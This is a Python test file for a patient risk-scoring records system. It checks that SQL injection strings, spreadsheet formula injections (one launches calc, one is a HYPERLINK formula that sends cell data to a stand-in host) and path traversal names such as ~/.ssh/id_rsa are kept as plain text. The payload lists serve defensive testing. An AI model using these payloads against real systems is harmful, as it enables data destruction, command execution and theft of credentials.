"""Texts that are statements, formulas or paths, given wherever a person's text goes: they stay texts."""

from __future__ import annotations

import contextlib
import csv
from collections.abc import Iterator
from datetime import date
from pathlib import Path

import pandas as pd
import pytest
import sqlalchemy as sa

from riskmodels.interop.columns.apply import apply
from riskmodels.interop.columns.mapping import CohortMapping, ColumnMapping, Role
from riskmodels.interop.table.file_format import FileFormat
from riskmodels.interop.table.source import open_source
from riskmodels.records import (
    LOCAL,
    Database,
    RecordsError,
    audit,
    drafts,
    jobs,
    listing,
    open_database,
    patients,
    users,
)
from riskmodels.records import Role as Right
from riskmodels.records.facts import Entered, Facts
from riskmodels.records.schema import Base
from riskmodels.scoring.job_files import Outputs, ResultFiles
from tests.postgresql import new_database
from ui.cohort import layouts as cohort_layouts

STATEMENTS = (
    "'; DROP TABLE patient; --",
    "' OR '1'='1",
    '" OR ""="',
    "1; DELETE FROM audit_event",
    "') UNION SELECT hash FROM audit_head --",
    "%' OR label LIKE '%",
    "\\'; TRUNCATE patient; --",
    "$$; SELECT pg_sleep(30); $$",
    "%(label)s :label {label} ?",
    "x\u02bc OR 1=1",
)
FORMULAS = (
    "=1+1",
    "+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(A1)",
    "\t=1",
    '=HYPERLINK("http://x/?"&A1)',
    "＝1+1",
    " =1",
    "\r=1",
)

PATHS = (
    "../../../etc/passwd",
    "/etc/passwd",
    "..\\..\\x",
    "a/../../b",
    "\x00x",
    "CON",
    "~/.ssh/id_rsa",
    "%2e%2e%2f",
    ".",
)
DAY = date(2026, 11, 24)


@pytest.fixture(params=["sqlite", "postgresql"])
def database(request: pytest.FixtureRequest, tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> Iterator[Database]:
    """An empty database of this test; PostgreSQL where ``CARERISK_TEST_POSTGRES`` names a server."""
    monkeypatch.delenv("DATABASE_URL", raising=False)
    if request.param == "sqlite":
        opened = open_database(folder=tmp_path / "data")
        yield opened
        opened.close()
        return
    with new_database("hostile") as address:
        opened = open_database(address, tmp_path / "data")
        yield opened
        opened.close()


def counts(database: Database) -> dict[str, int]:
    """Rows of every table: all of them are still there."""
    with database.read() as session:
        return {
            name: session.scalar(sa.select(sa.func.count()).select_from(table)) or 0
            for name, table in Base.metadata.tables.items()
        }


FACTS = Facts({"age": Entered(57.0, "years")}, {"age": 57.0})


class TestSql:
    def test_label_is_kept_found_and_shown_as_it_is(self, database: Database) -> None:
        made = [patients.create(database, LOCAL, text, DAY, FACTS, [])[0] for text in STATEMENTS]
        assert [patient.label for patient in made] == [" ".join(text.split()) for text in STATEMENTS]
        assert counts(database)["patient"] == len(STATEMENTS)
        for text, patient in zip(STATEMENTS, made, strict=True):
            found = listing.search(database, LOCAL, listing.Query(text=text)).rows
            assert [row.patient.id for row in found] == [patient.id]

    def test_renaming_to_one_changes_that_label_alone(self, database: Database) -> None:
        first, second = (patients.create(database, LOCAL, text, DAY, FACTS, [])[0] for text in ("a", "b"))
        patients.rename(database, LOCAL, first.id, first.version, STATEMENTS[0])
        kept = patients.find(database, LOCAL, second.id)
        assert kept is not None
        assert kept.label == "b"

    @pytest.mark.parametrize("text", STATEMENTS)
    def test_id_that_is_one_finds_and_changes_nothing(self, database: Database, text: str) -> None:
        patients.create(database, LOCAL, "a", DAY, FACTS, [])
        before = counts(database)
        assert patients.find(database, LOCAL, text) is None
        assert jobs.find(database, LOCAL, text) is None
        assert drafts.load(database, LOCAL, text) is None
        assert users.names(database, [text]) == {}
        assert audit.events(database, LOCAL, kind=text, record_id=text, who=text).total == 0
        for change in (patients.delete, patients.restore, jobs.cancel, jobs.delete, drafts.delete):
            with contextlib.suppress(RecordsError):
                change(database, LOCAL, text)
        assert counts(database) == before

    @pytest.mark.parametrize("text", STATEMENTS)
    def test_account_whose_claims_are_statements_is_an_account(self, database: Database, text: str) -> None:
        actor = users.remember(database, text, text, text, {Right.CARE})
        assert users.names(database, [actor.id]) == {actor.id: " ".join(text.split())}
        assert users.remember(database, text, text, text, {Right.CARE}).id == actor.id


class TestFormulas:
    def test_problems_and_rejects_of_a_job_hold_none(self, tmp_path: Path) -> None:
        headers = ["=age()", "@sex", "+note"]
        columns = (
            ColumnMapping(headers[0], "age", Role.VALUE, "years"), ColumnMapping(headers[1], "sex", Role.VALUE),
            ColumnMapping(headers[2]),
        )  # fmt: skip
        mapping = CohortMapping(columns).with_code(headers[1], "f", "female")
        lines = [",".join(headers)] + [
            f'"{text.replace(chr(34), chr(34) * 2)}",f,"{i}"' for i, text in enumerate(FORMULAS)
        ]
        (chunk,) = open_source("\n".join(lines).encode(), FileFormat("csv")).chunks()
        outputs = Outputs(ResultFiles(tmp_path), FileFormat("csv"))
        outputs.add(apply(mapping, chunk))
        outputs.write(_as_arrow(chunk.cells))
        outputs.commit()
        for path in (outputs.files.problems, outputs.files.rejects, outputs.files.csv):
            with path.open(encoding="utf-8-sig", newline="") as file:
                rows = list(csv.reader(file))
            assert len(rows) > 1, path.name
            suspects = [cell for row in rows for cell in row if cell.lstrip(" \t\r\n")[:1] in tuple("=+-@＝＋－＠")]
            assert [cell for cell in suspects if not cell.lstrip("+-").replace(".", "").isdecimal()] == [], path.name

    def test_the_files_would_have_held_some(self) -> None:
        assert all(text.lstrip(" \t\r\n")[:1] in tuple("=+-@＝") for text in FORMULAS)


def _as_arrow(cells: pd.DataFrame) -> object:
    import pyarrow as pa

    return pa.table({str(name): pa.array(cells[name].astype("str"), pa.string()) for name in cells.columns})


class TestPaths:
    @pytest.mark.parametrize("name", [path for path in PATHS if path.strip()])
    def test_template_of_any_name_lies_in_its_folder(
        self, name: str, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
    ) -> None:
        monkeypatch.setenv("CARERISK_DATA", str(tmp_path / "data"))
        monkeypatch.setattr(cohort_layouts, "owner", lambda: "../../" + name)
        cohort_layouts.save(name, CohortMapping((ColumnMapping("age", "age", Role.VALUE, "years"),)))
        written = [path.relative_to(tmp_path).parts for path in tmp_path.rglob("*") if path.is_file()]
        assert [parts[:2] for parts in written] == [("data", "templates")]
        assert [layout.name for layout in cohort_layouts.saved()] == [" ".join(name.split())]
        cohort_layouts.remove(" ".join(name.split()))
        assert cohort_layouts.saved() == []

    def test_folder_of_a_job_has_a_random_name_whatever_is_uploaded(self, tmp_path: Path) -> None:
        database = open_database(folder=tmp_path / "data")
        folders = {jobs.new_folder(database).relative_to(database.jobs).as_posix() for _ in range(3)}
        database.close()
        assert len(folders) == 3
        assert all(len(name) == 48 and name.isalnum() for name in folders)
